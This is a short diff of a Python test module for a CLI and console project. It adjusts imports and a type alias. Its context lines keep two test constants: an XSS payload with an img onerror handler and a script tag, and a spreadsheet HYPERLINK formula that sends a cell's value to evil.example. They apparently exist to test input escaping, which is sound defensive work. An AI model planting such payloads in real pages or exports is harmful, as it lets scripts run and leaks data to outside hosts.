@@ -14,12 +14,13 @@ from typing import TYPE_CHECKING, Any
 
 from dci_cli.aws import OperatorRuntime
 from dci_cli.local_server import local_environment
+from dci_common.aws.dynamodb import Item
 from dci_common.settings import Settings
 from support.api import identified
 from support.console_browser import settled
 from support.console_clients import Clients
 from support.events import body_of
-from support.overseeing import disclosed, withhold
+from support.oversight import disclosed, withhold
 from support.server_process import command, eventually
 from support.stored_items import items_of, tests_client
 
@@ -32,7 +33,6 @@ DAY = 86_400
 UIN = "847951632"  # of the demo person p0001, of the household h0001
 HOSTILE = """"><img src=x onerror="globalThis.hit=1"><script>globalThis.hit=2</script>${hit}'"""
 FORMULA = '=HYPERLINK("https://evil.example?"&A1)'
-Item = dict[str, Any]
 
 
 @dataclass
